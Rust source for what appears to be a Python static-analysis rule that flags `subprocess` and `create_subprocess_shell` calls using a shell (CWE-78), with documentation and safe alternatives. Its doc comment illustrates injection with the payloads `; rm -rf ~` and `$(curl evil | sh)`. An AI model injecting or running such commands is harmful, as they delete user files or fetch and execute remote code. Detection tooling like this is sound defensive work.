use crate::CallFilter;
use crate::call_pattern::{Arg, CallPattern, Cond};
use crate::checker::Checker;
use crate::declare_rule;
use crate::rule::Category;
use vigil_knowledge::commands::{SUBPROCESS, SUBPROCESS_SHELL, interpreter};
use vigil_python::Ranged;
use vigil_python::ast::ExprCall;
use vigil_report::{Confidence, Severity};

const COMMAND: Arg = Arg::at(0, "args");

/// Any other call with a true `shell=` argument (Bandit B604): a wrapper
/// around `subprocess` that probably passes it on.
fn other_shell_call(checker: &mut Checker, call: &ExprCall, qualified: Option<&str>) {
    if qualified.is_some_and(|q| SUBPROCESS.contains(&q) || q.starts_with("subprocess.")) {
        return;
    }
    let Some(shell) = call.arguments.find_keyword("shell") else {
        return;
    };
    // Another function's `shell=` may mean anything but `True` (or `1`) or
    // the name of a shell (`shell="powershell"`, as Salt's `cmd.run` takes
    // it).
    let how = if checker.is_bool(&shell.value, true) {
        "`shell=True`".to_string()
    } else if checker.int(&shell.value).is_some_and(|n| n != 0) {
        format!("`shell={}`", checker.snippet(&shell.value))
    } else if let Some(name) = checker
        .string(&shell.value)
        .filter(|name| interpreter(name).is_some_and(|i| i.is_shell()))
    {
        format!("`shell=\"{name}\"`")
    } else {
        return;
    };
    let message = format!(
        "`{}` is called with {how}: if it passes this on to a subprocess, its command is parsed by a shell",
        checker.snippet(&*call.func)
    );
    checker
        .report(&RULE, call.range(), message)
        .audit_only()
        .severity(Severity::Medium)
        .confidence(Confidence::Low);
}

declare_rule! {
    /// ## What it does
    /// Flags `subprocess` calls that run their command through a shell
    /// (`shell=True`), and `asyncio.create_subprocess_shell`, when the
    /// command is built at run time. Other functions called with
    /// `shell=True` are listed in `--audit` mode.
    ///
    /// ## Why is this bad?
    /// With `shell=True` the command string is parsed by `/bin/sh` (or
    /// `cmd.exe`). Any part of it that comes from outside — a file name, a
    /// form field, a branch name — can carry shell syntax such as `; rm -rf ~`
    /// or `$(curl evil | sh)`, and the shell will run it: OS command
    /// injection. A command that is a fixed literal is only an audit note.
    ///
    /// ## Example
    /// ```python
    /// subprocess.run(f"convert {upload} out.png", shell=True)
    /// ```
    ///
    /// ## Use instead
    /// Pass the program and its arguments as a list, without a shell:
    /// ```python
    /// subprocess.run(["convert", upload, "out.png"])
    /// ```
    /// If a shell is unavoidable, quote every dynamic part with `shlex.quote`.
    ///
    /// ## References
    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    /// - Python docs: subprocess — Security Considerations
    pub static RULE = {
        name: "subprocess-shell-true",
        category: Category::Injection,
        cwe: &[78],
        severity: Severity::High,
        confidence: Confidence::High,
        bandit: &["B602", "B604"],
        ruff: &["S602", "S604"],
        help: "Pass the command as a list of arguments without `shell=True`; if a shell is unavoidable, quote every dynamic part with `shlex.quote()`.",
        calls: &[
            CallPattern::new(
                SUBPROCESS,
                &[Cond::Truthy(Arg::kw("shell")), Cond::NonLiteral(COMMAND)],
                "`{callee}` runs a command built at run time through a shell (`shell=True`): shell metacharacters in it are executed",
            ),
            CallPattern::new(
                SUBPROCESS,
                &[Cond::Truthy(Arg::kw("shell")), Cond::Literal(COMMAND)],
                "`{callee}` runs a fixed command through a shell (`shell=True`)",
            )
            .audit(Severity::Low),
            CallPattern::new(
                SUBPROCESS_SHELL,
                &[Cond::NonLiteral(Arg::at(0, "cmd"))],
                "`{callee}` always runs its command through a shell, and this command is built at run time",
            ),
            CallPattern::new(
                SUBPROCESS_SHELL,
                &[Cond::Literal(Arg::at(0, "cmd"))],
                "`{callee}` runs a fixed command through a shell",
            )
            .audit(Severity::Low),
        ],
        on_call: other_shell_call,
        call_filter: CallFilter { keywords: || vec!["shell"], ..CallFilter::NONE },
    };
}
